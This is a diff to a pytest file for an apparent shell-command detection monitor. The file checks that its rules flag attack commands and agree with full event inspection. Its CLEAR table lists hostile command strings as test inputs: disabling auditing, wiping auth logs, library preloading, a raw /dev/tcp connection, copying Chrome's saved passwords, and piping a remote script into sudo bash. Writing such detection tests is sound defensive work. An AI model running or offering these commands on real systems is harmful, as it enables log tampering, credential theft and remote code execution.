@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import sys
 from datetime import UTC, datetime
+from itertools import pairwise
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -10,12 +13,18 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from intel_records import BUNDLE, RECORD
 
+from lathe.guard.acts.events import Events, started_with
 from lathe.guard.acts.installs import Package, installed
 from lathe.guard.acts.monitor import ActMonitor, shipped_rules
 from lathe.guard.acts.sigma import compile_rule, read_rule
 from lathe.guard.indicators import read_record
+from lathe.guard.shell_run import Context, follow
 from lathe.guard.taxonomy import shipped
 from lathe.protocol.errors import ConfigError, UsageError
+
+sys.path.append(str(Path(__file__).parents[2] / "benchmarks"))
+
+from destructive import commands
 
 NOW = datetime(2026, 6, 1, tzinfo=UTC)
 
@@ -89,19 +98,19 @@ def test_the_shipped_rules_name_clauses_and_know_where_to_look() -> None:
         assert one.clause in shipped().clauses and one.clues, one.title
 
 
-@pytest.mark.parametrize(
-    ("command", "title"),
-    [
-        ("sudo auditctl -e 0", "auditing"),
-        ("sh -c 'truncate -s 0 /var/log/auth.log'", "are wiped"),
-        ("echo /tmp/x.so | sudo tee -a /etc/ld.so.preload", "preloaded"),
-        ("exec 5<>/dev/tcp/198.51.100.7/443", "connection of its own"),
-        ("cp ~/.config/google-chrome/Default/'Login Data' /tmp/", "stores of passwords"),
-        ("curl -s https://sh.example.org | sudo bash", "piped into a shell"),
-    ],
-)
-def test_clear_cases_are_found(command: str, title: str) -> None:
-    assert any(title in one.why for one in ActMonitor(shipped_rules()).look(command))
+CLEAR = {
+    "sudo auditctl -e 0": "auditing",
+    "sh -c 'truncate -s 0 /var/log/auth.log'": "are wiped",
+    "echo /tmp/x.so | sudo tee -a /etc/ld.so.preload": "preloaded",
+    "exec 5<>/dev/tcp/198.51.100.7/443": "connection of its own",
+    "cp ~/.config/google-chrome/Default/'Login Data' /tmp/": "stores of passwords",
+    "curl -s https://sh.example.org | sudo bash": "piped into a shell",
+}
+
+
+@pytest.mark.parametrize("command", CLEAR)
+def test_clear_cases_are_found(command: str) -> None:
+    assert any(CLEAR[command] in one.why for one in ActMonitor(shipped_rules()).look(command))
 
 
 def test_indicators_match_until_they_expire() -> None:
@@ -202,3 +211,18 @@ def test_any_json_gives_indicators_or_a_sentence(plain: Any) -> None:
         assert error.message.endswith(".")
     else:
         assert all(one.endswith(".") for one in read.left)
+
+
+def test_no_rule_is_passed_by_for_want_of_a_look() -> None:
+    """What is looked at is told by words of the text; looking at everything must find no more."""
+    monitor = ActMonitor(shipped_rules())
+    lines = [*commands("dangerous"), *commands("ordinary"), *CLEAR, *(f"{one}\n{two}" for one, two in pairwise(CLEAR))]
+    for line in lines:
+        events = Events(follow(line, Context("/", {"HOME": "/root", "PWD": "/"}, "/")))
+        alone = [started_with(line)] if "\n" not in line else []
+        every = {
+            one.id
+            for one in shipped_rules()
+            if any(map(one.check, [*events.of(one.category), *(alone if one.category == "process_creation" else ())]))
+        }
+        assert {found.evidence["rule"] for found in monitor.look(line)} == every, line
